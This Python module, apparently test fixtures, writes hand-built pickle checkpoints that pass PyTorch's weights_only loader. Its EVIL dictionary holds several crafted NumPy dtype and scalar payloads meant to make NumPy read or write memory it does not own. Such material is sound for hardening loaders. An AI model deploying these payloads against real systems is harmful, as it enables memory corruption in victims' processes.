"""Checkpoints that ask NumPy to read and write memory that is not theirs; none names anything that runs code."""

import struct
import zipfile

_TRUE_FALSE_NONE = {True: b"\x88", False: b"\x89", None: b"N"}
_OBJECTS = ("global", "numpy dtype", ("O",))


def packed(value):
    """Give a value as opcodes of pickle that PyTorch's `weights_only` knows.

    `("global", "module name")` stands for what has that name, `("global", "module name", arguments)` for a call of
    it, `("global", "module name", arguments, state)` for what the state is then given to; dictionaries, tuples, texts
    and numbers stand for themselves, bytes for what they say in Latin-1.
    """
    if isinstance(value, bytes):
        return packed(("global", "_codecs encode", (value.decode("latin-1"), "latin1")))
    if value is None or isinstance(value, bool):
        return _TRUE_FALSE_NONE[value]
    if isinstance(value, tuple):
        return _called(value) if value[:1] == ("global",) else b"(" + b"".join(map(packed, value)) + b"t"
    if isinstance(value, dict):
        return b"}" + b"".join(packed(key) + packed(item) + b"s" for key, item in value.items())
    raw = value.encode() if isinstance(value, str) else b""
    return b"X" + struct.pack("<I", len(raw)) + raw if isinstance(value, str) else b"J" + struct.pack("<i", value)


def _called(value):
    module, name = value[1].split()
    calls = (packed(part) + opcode for part, opcode in zip(value[2:], (b"R", b"b"), strict=False))
    return f"c{module}\n{name}\n".encode() + b"".join(calls)


def kind(*state, name="f8"):
    """A NumPy dtype with a state of one's own."""
    return "global", "numpy dtype", (name, False, True), state


def scalar(of, content, module="numpy._core.multiarray"):
    return "global", f"{module} scalar", (of, content)


def array(of, content, *, shape=(1,)):
    empty = (("global", "numpy ndarray"), (0,), b"b")
    return "global", "numpy._core.multiarray _reconstruct", empty, (1, shape, of, False, content)


_LONG = kind(3, "<", (("global", "numpy dtype", ("f8",)), (9999,)), None, None, -1, -1, 0)
_SHORT_STATE = kind("<", None, ("a",), {"a": (_OBJECTS, 0)}, 8, 8, 0)
_FALSE_FIELDS = kind(3, "<", None, ("a",), {"a": (_OBJECTS, 0)}, 8, 8, 0)
EVIL = {
    "an object at an address": (
        "global",
        "builtins set",
        (("global", "numpy ndarray", ((1,), ("global", "numpy dtype", (("V8", _FALSE_FIELDS),)), b"A" * 8)),),
    ),
    "an array of objects": array(_FALSE_FIELDS, b"A" * 8),
    "a number that counts references": scalar(kind(3, "<", None, None, None, -1, -1, 63), b"A" * 8),
    "a number with fields": scalar(_FALSE_FIELDS, b"A" * 8),
    "a number that is longer": scalar(_LONG, b"A" * 8),
    "a number of too few bytes": scalar(kind(3, "<", None, None, None, -1, -1, 0), b"A"),
    "an object as a number": scalar(_OBJECTS, b"A" * 8),
    "a void of any length": scalar(("global", "numpy dtype", ("V999999",)), b"A"),
    "a state that is too short": scalar(_SHORT_STATE, b"A" * 8),
}  # fmt: skip


def write_pickle(path, value):
    """Write a checkpoint as `torch.save` packs one, with a pickle made by hand."""
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("archive/data.pkl", b"\x80\x02" + packed(value) + b".")
        archive.writestr("archive/byteorder", "little")
        archive.writestr("archive/version", "3\n")
